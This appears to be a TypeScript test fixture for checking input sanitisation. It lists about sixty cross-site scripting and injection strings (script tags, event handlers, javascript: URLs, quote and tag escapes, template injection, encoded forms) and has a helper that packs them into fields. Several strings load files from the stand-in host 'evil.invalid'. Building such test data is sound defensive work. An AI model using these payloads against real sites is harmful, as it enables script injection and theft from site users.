const HOST = "evil.invalid";
const RUN = "alert(1)";

/** Injection attempts; each is short enough for every field. */
export const HOSTILE_TEXTS: readonly string[] = [
  // Elements that run scripts.
  `<script>${RUN}</script>`,
  `<script src=//${HOST}/1.js></script>`,
  `<SCRIPT/x>${RUN}</SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script type=module>import"//${HOST}/2.js"</script>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href=//${HOST}/3.svg#x></use></svg>`,
  `<math><mtext></mtext><script>${RUN}</script></math>`,
  `<img src=x onerror=${RUN}>`,
  `<img/src=//${HOST}/4.png>`,
  `<img src=x:x srcset=//${HOST}/5.png>`,
  `<image href=//${HOST}/6.png onerror=${RUN}>`,
  `<video src=//${HOST}/7.mp4 onerror=${RUN}></video>`,
  `<video poster=//${HOST}/8.png></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<marquee onstart=${RUN}>`,
  `<iframe src=javascript:${RUN}></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src=//${HOST}/9></iframe>`,
  `<object data=//${HOST}/10.swf></object>`,
  `<embed src=//${HOST}/11.swf>`,
  `<link rel=stylesheet href=//${HOST}/12.css>`,
  `<link rel=prefetch href=//${HOST}/13>`,
  `<style>@import"//${HOST}/14.css"</style>`,
  `<style>*{background:url(//${HOST}/15)}</style>`,
  `<p style="background:url(//${HOST}/16)">x</p>`,
  `<meta http-equiv=refresh content=0;url=//${HOST}/17>`,
  `<base href=//${HOST}/>`,
  `<form action=//${HOST}/18><button>ok</button></form>`,
  `<button formaction=javascript:${RUN} form=x>ok</button>`,
  `<a href=javascript:${RUN}>ok</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">ok</a>`,
  // Ends of the contexts that a text may be in.
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}" autofocus onfocus="${RUN}`,
  `' onmouseover='${RUN}' x='`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</template><script>${RUN}</script>`,
  `</noscript><img src=x onerror=${RUN}>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `";${RUN};//`,
  `');${RUN};//`,
  // URLs and template syntax.
  `javascript:${RUN}`,
  `//${HOST}/19`,
  `{{constructor.constructor("${RUN}")()}}`,
  `\${${RUN}}`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `__proto__[x]=<img src=x onerror=${RUN}>`,
];

/** The texts joined into fields of this length. */
export function joinHostileTexts(maxLength: number, separator = " "): string[] {
  const fields: string[] = [];
  for (const text of HOSTILE_TEXTS) {
    const last = fields.at(-1);
    const extended = `${last}${separator}${text}`;
    if (last === undefined || extended.length > maxLength) fields.push(text);
    else fields[fields.length - 1] = extended;
  }
  return fields;
}
